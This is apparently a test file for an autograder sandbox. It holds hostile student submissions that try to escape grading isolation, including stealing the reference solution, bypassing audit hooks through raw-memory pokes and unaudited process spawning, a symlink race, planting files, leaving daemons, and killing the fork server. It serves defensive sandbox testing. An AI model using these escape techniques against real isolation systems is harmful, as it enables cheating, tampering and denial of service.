"""Hostile submissions: each graded cell tries one attack of issue 10 and reports what it saw.

An attack that works gives its author points they did not earn (its cell then defines the
right function); one that fails leaves a function that raises RuntimeError("report: ..."),
whose message the feedback shows, so that a test can check both the score and what the attack
met. Each attack also tries to harm others: files outside OUT, processes that outlive grading,
a connection to a listener of the test on 127.0.0.1.
"""

from autograder.course import COURSE_ROOT
from tests.corpus import cell_code
from tests.submissions import DINO, solutions

MARK = "attack-outlives-7731"  # in the command line of every process an attack leaves behind
VICTIM_MARK = "VICTIM_SECRET_5521"  # in the honest victim's clip cell: no later job may find it

# Module-level code of every attack cell: note() records what an expression gave or raised;
# spawn() starts a process with _posixsubprocess.fork_exec, which no audit event announces.
PRELUDE = """
import os, sys, numpy as np
REPORT, STOLEN = [], None
def note(what, fn):
    try:
        REPORT.append(f"{what}={str(fn())[:40]}")
    except BaseException as error:
        REPORT.append(f"{what}:{type(error).__name__}")
def spawn(code, session=False, wait=True, argv=None):
    import _posixsubprocess
    r, w = os.pipe()
    er, ew = os.pipe()
    argv = [a.encode() for a in argv or [sys.executable, "-c", code]]
    pid = _posixsubprocess.fork_exec(argv, argv[:1], True, (w,), None, None, -1, -1, -1, w,
                                     -1, w, er, ew, False, session, -1, None, None, None, -1, None, False)
    os.close(w); os.close(ew); os.close(er)
    if not wait:
        os.close(r)
        return pid
    out = b""
    while chunk := os.read(r, 4096):
        out += chunk
    os.close(r)
    return out.decode(errors="replace").strip().replace(chr(10), " ")
"""

REPORTING_CLIP = """
def clip(gradients, maxValue):
    if STOLEN is not None:
        return STOLEN(gradients, maxValue)
    raise RuntimeError("report: " + " ".join(REPORT))
"""

SOURCE = DINO.source_notebook
TRANSLATION = COURSE_ROOT / "source" / "dinosaur_island.zh-CN.yml"  # the other edition's source (no code)
STEAL_FROM_SOURCE = f"""
def steal(path):
    import json
    global STOLEN
    cells = json.load(open(path))["cells"]
    code = next("".join(c["source"]) for c in cells if "def clip(" in "".join(c["source"]))
    space = {{"np": np}}
    exec(code, space)
    STOLEN = space["clip"]
    return path
note("source", lambda: steal({str(SOURCE)!r}))
note("translation", lambda: len(open({str(TRANSLATION)!r}).read()))
"""


def attack(body):
    """A clip cell: the prelude, body (which may set STOLEN to a working clip), the reporting clip."""
    return cell_code("clip", PRELUDE + body + REPORTING_CLIP)


def probe(port):
    """Code for a spawned interpreter: no audit hook there. Prints what it could reach."""
    return (
        f"import os, socket\nr = []\n"
        f"for p in ({str(SOURCE)!r}, {str(COURSE_ROOT / 'autograder')!r}, '/etc/passwd'):\n"
        f"    r.append(str(os.path.exists(p)))\n"
        f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=1); r.append('connected')\n"
        f"except OSError as e:\n    r.append(type(e).__name__)\n"
        f"try:\n    open({str(COURSE_ROOT / 'planted.txt')!r}, 'w'); r.append('planted')\n"
        f"except OSError as e:\n    r.append(type(e).__name__)\n"
        f"print('spawned', *r)\n"
    )


def daemon(port):
    """Code for a process meant to outlive its job and harm the next ones and the run."""
    return (
        f"# {MARK}\nimport os, time, socket\ntime.sleep(2)\n"
        f"for path in ({str(COURSE_ROOT / 'planted_by_daemon.txt')!r}, '/tmp/planted_by_daemon'):\n"
        f"    try:\n        open(path, 'w').write('x')\n    except OSError:\n        pass\n"
        f"try:\n    socket.create_connection(('127.0.0.1', {port}), timeout=1)\nexcept OSError:\n    pass\n"
        f"time.sleep(120)\n"
    )


SHELL_DAEMON = ["/bin/sh", "-c", f"sleep 120; : {MARK}"]  # a daemon that needs no Python


def attacks(port):
    """{student: (clip cell, ...)}: the attacks of issue 10, as the clip cell of a student whose
    sample and optimize are solved (see ATTACK_SCORES)."""
    course = str(COURSE_ROOT)
    site = __import__("numpy").__file__.rsplit("/numpy/", 1)[0]
    utils = str(DINO.release_dir / "utils")
    return {
        # full marks without work
        "reads_source": attack(STEAL_FROM_SOURCE),
        "spawns_interpreter": attack(f"note('spawn', lambda: spawn({probe(port)!r}))\n"),
        "pokes_the_hook": attack(POKE_THE_HOOK + STEAL_FROM_SOURCE.replace('note("source"', 'note("after_poke"')),
        "races_a_thread": attack(RACE),
        "previous_job": attack(PREVIOUS_JOB),
        "zz_uses_stolen_reference": attack(USE_STOLEN),
        # harming others and the next run
        "plants_files": attack(f"""
for path in ({course + "/autograder/report.py"!r}, {site + "/planted.pth"!r}, {utils + "/__pycache__/x.pyc"!r},
             {course + "/submitted/planted.ipynb"!r}, "/tmp/planted", "/dev/shm/planted", "/var/tmp/planted"):
    note(path.rsplit("/", 1)[1], lambda: open(path, "w").write("import os"))
note("symlink", lambda: os.symlink({str(SOURCE)!r}, {course + "/submitted/link.ipynb"!r}))
note("mkdir", lambda: os.mkdir({course + "/autograder/grading/x"!r}))
"""),
        "leaves_daemons": attack(
            f"for _ in range(20):\n    note('daemon', lambda: spawn({daemon(port)!r}, True, False))\n"
        ),
        "opens_the_gradebook": attack(f"""
import sqlite3
note("gradebook", lambda: sqlite3.connect({course + "/gradebook.db"!r}).execute("select 1").fetchall())
"""),
        "kills_the_fork_server": attack("""
import signal
note("pidfd_kill", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL))
note("kill_all", lambda: spawn("import os, signal; os.kill(-1, signal.SIGKILL)"))
"""),
        "stops_itself": attack("""
import signal
note("stop_parent", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGSTOP))
""").replace(
            '    raise RuntimeError("report: "',
            '    signal.raise_signal(signal.SIGSTOP)\n    raise RuntimeError("report: "',
        ),
        "fills_tmp": attack("""
def fill(folder):
    written = 0
    try:
        for i in range(40):
            with open(f"{folder}/fill{i}", "wb") as f:
                for _ in range(16):
                    f.write(bytes(2**20)); written += 1
    except OSError as error:
        return f"{written}MB,{type(error).__name__}"
    return f"{written}MB"
for folder in ("/tmp", "/dev/shm", "."):
    note(folder, lambda: fill(folder))
"""),
        "uses_the_network": attack(f"""
import socket
note("connect", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=1))
note("unix", lambda: socket.socket(socket.AF_UNIX).fileno() > 0)
note("resolve", lambda: socket.getaddrinfo("localhost", 80))
note("resolve_far", lambda: socket.getaddrinfo("example.com", 80))
"""),
    }


# The sets of events the audit hook refuses, emptied in place through raw memory (numpy's
# __array_interface__ needs no ctypes): a frozenset then looks up nothing. Found through the
# child's own frames, where the fork server's modules are still referenced.
POKE_THE_HOOK = """
def raw(address, count):
    class Raw:
        pass
    r = Raw()
    r.__array_interface__ = {"data": (address, False), "shape": (count,), "typestr": "<u8", "version": 3}
    return np.asarray(r)
def poke():
    frame, found = sys._getframe(), None
    while frame is not None and found is None:
        found = frame.f_globals.get("lockdown")
        frame = frame.f_back
    for events in (found.REFUSED_EVENTS, found.PATH_EVENTS):
        words = raw(id(events), 8)
        words[4] = 7  # mask: the 8 entries of its (empty) small table
        words[5] = id(events) + 64  # table: the small table
    return os.system("true")
note("poke", poke)
"""

RACE = f"""
import threading
import time
def race():
    os.symlink("/etc/hostname", "swap")
    stop = []
    def swapper():
        while not stop:
            try:
                os.replace("swap", "swap.old"); os.symlink({str(SOURCE)!r}, "swap")
                os.remove("swap"); os.replace("swap.old", "swap")
            except OSError:
                pass
    thread = threading.Thread(target=swapper); thread.start()
    got = "nothing"
    # a second of racing (at most 2000 reads): longer would make a slow machine's run time out instead
    deadline = time.monotonic() + 1
    for _ in range(2000):
        if time.monotonic() > deadline:
            break
        try:
            if "GRADED FUNCTION" in open("swap").read():
                got = "the source"; break
        except (OSError, PermissionError):
            pass
    stop.append(1); thread.join()
    return got
note("race", race)
"""

PREVIOUS_JOB = f"""
def search():
    frame, seen = sys._getframe(), []
    while frame is not None:
        for value in frame.f_locals.values():
            if isinstance(value, (bytes, bytearray, str, memoryview)):
                seen.append(bytes(value) if not isinstance(value, str) else value.encode())
            elif isinstance(value, int) and 2 < value < 256:
                try:
                    seen.append(os.pread(value, 1 << 20, 0))
                except OSError:
                    pass
        frame = frame.f_back
    return any({VICTIM_MARK!r}.encode() in s for s in seen)
note("found_victim", search)
"""

# an optimize that is right and also copies the reference clip (bound in its globals while it runs)
# wherever a later child might look
STEALING_OPTIMIZE = solutions()["optimize"].replace(
    "    return loss",
    """    import marshal, os
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
        try:
            with open(folder + "/stolen_clip", "wb") as f:
                f.write(marshal.dumps(clip.__code__))
        except OSError:
            pass
    return loss""",
    1,
)

USE_STOLEN = """
def use():
    import marshal, types
    global STOLEN
    for folder in ("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), "."):
        try:
            code = marshal.loads(open(folder + "/stolen_clip", "rb").read())
        except OSError:
            continue
        STOLEN = types.FunctionType(code, {"np": np})
        return folder
    return "none"
note("stolen", use)
"""
